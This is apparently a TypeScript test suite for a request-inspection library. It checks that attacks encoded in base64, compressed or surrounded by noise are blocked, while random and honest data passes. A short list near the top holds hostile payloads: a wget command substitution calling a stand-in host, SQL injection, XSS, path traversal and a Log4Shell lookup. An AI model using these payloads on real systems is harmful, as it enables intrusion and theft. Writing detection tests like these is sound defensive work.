import assert from 'node:assert/strict'
import { createHash, generateKeyPairSync } from 'node:crypto'
import { describe, test } from 'node:test'
import { deflateSync, gzipSync } from 'node:zlib'
import { type InspectedRequest, inspect } from '../src/index.ts'

const ATTACKS = [
  '$(wget http://evil.example/a -O /tmp/a)',
  "' UNION SELECT password FROM users -- ",
  '<script>alert(1)</script>',
  '../../../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
]

/** Random bytes, by a seed. */
function noise(seed: string, length: number): Buffer {
  const parts: Buffer[] = []
  for (let i = 0; i * 32 < length; i++) parts.push(createHash('sha256').update(`${seed} ${i}`).digest())
  return Buffer.concat(parts).subarray(0, length)
}

const asked = (value: string): InspectedRequest => ({
  method: 'GET',
  target: `/items?id=${encodeURIComponent(value)}`,
  headers: [],
})

const sent = (value: string): InspectedRequest => ({
  method: 'POST',
  target: '/items',
  headers: ['content-type', 'application/json'],
  body: Buffer.from(JSON.stringify({ id: value })),
})

function verdictsOf(bytes: Buffer): readonly string[] {
  const value = bytes.toString('base64')
  return [asked(value), sent(value)].map(request => inspect(request).verdict)
}

describe('bytes in base64', () => {
  for (const [name, around] of [
    ['a byte outside of every character', [Buffer.from([0xff]), Buffer.from([0x01])]],
    ['letters beyond ASCII', [Buffer.from('é '), Buffer.from(' été à Genève')]],
    ['another script', [Buffer.from('Привет '), Buffer.from(' 世界')]],
    ['zeros', [Buffer.alloc(4), Buffer.alloc(4)]],
    ['a thousand bytes of noise', [noise('before', 1_000), noise('behind', 1_000)]],
    ['the start of a picture', [Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from([0xff, 0xd9])]],
  ] as const)
    test(`hide no attack: ${name}`, () => {
      const [before, behind] = around
      for (const attack of ATTACKS) {
        const text = Buffer.from(attack)
        for (const bytes of [
          Buffer.concat([before, text]),
          Buffer.concat([text, behind]),
          Buffer.concat([before, text, behind]),
        ])
          assert.deepEqual(verdictsOf(bytes), ['block', 'block'], `${name}: ${bytes.toString('latin1')}`)
      }
    })

  test('hide no attack where a decoder passes over what is not base64, or a program takes it apart', () => {
    for (const attack of ATTACKS) {
      const coded = Buffer.from(attack).toString('base64')
      const cut = (sign: string, at = 6): string => coded.slice(0, at) + sign + coded.slice(at)
      for (const value of [
        ...[' ', '!', '.', '*', '=', '\n', '-', '_', '\u00e9', ':', '~~'].map(sign => cut(sign)),
        coded.replace(/.{19}/g, '$& '),
        coded.replace(/.{19}/g, '$&.'),
        `.${coded}`,
        `v1:${coded}`,
        ...['\t', '\v', '\f', ' \n'].map(sign => cut(sign)),
        `${coded};base64,QUFBQUFBQUFBQUFBQUFB`,
        `,QUFBQUFBQUFBQUFBQUFBQUFBQUFB ${coded}`,
        `"${coded}"`,
        `data=${coded}`,
        `${coded}--${'0a'.repeat(20)}`,
        `${coded} and more`,
      ])
        for (const request of [asked(value), sent(value)])
          assert.equal(inspect(request).verdict, 'block', value)
    }
  })

  test('hide no attack of a few characters that stand at their end', () => {
    const attack = '1 or 1=1 or 2=2;'
    for (let length = 20; length < 60; length++) {
      const bytes = Buffer.concat([
        noise(`before ${length}`, length),
        Buffer.from([0xff]),
        Buffer.from(attack),
      ])
      assert.deepEqual(verdictsOf(bytes), ['block', 'block'], `${length}`)
    }
  })

  test('hide no attack when they are compressed', () => {
    for (const attack of ATTACKS)
      for (const pack of [gzipSync, deflateSync]) {
        const packed = pack(Buffer.concat([Buffer.from([0xff]), Buffer.from(`${attack} é`)]))
        assert.deepEqual(verdictsOf(packed), ['block', 'block'], attack)
      }
  })

  test('pass when they are random: ids, keys, digests, encrypted values', () => {
    for (let i = 0; i < 5_000; i++)
      assert.deepEqual(verdictsOf(noise(`id ${i}`, 7 + (i % 60))), ['pass', 'pass'], `${i}`)
    for (let i = 0; i < 200; i++)
      assert.deepEqual(verdictsOf(noise(`value ${i}`, 2_048 + i)), ['pass', 'pass'], `${i}`)
  })

  test('pass when they are messages that hold honest text', () => {
    const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    const comment = Buffer.from('\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReady', 'latin1')
    for (const bytes of [
      publicKey.export({ type: 'spki', format: 'der' }),
      Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), comment, noise('picture', 300)]),
      Buffer.concat([Buffer.from('\x0a\x0cshop/orders\x12\x10', 'latin1'), noise('cursor', 16)]),
      Buffer.from(JSON.stringify({ name: 'José Ñandú', city: 'Zürich', note: "it's fine" })),
      Buffer.from('Привет, мир! Как дела?'),
    ])
      assert.deepEqual(verdictsOf(bytes), ['pass', 'pass'], bytes.toString('latin1'))
  })
})
